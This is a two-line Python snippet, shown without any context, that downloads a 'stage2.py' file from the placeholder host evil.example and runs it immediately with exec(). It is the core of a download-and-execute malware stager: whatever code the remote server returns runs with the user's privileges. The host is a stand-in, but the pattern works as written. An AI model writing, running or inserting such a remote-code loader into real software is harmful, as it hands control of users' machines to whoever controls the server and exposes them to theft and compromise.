import urllib.request
exec(urllib.request.urlopen("http://evil.example/stage2.py").read())
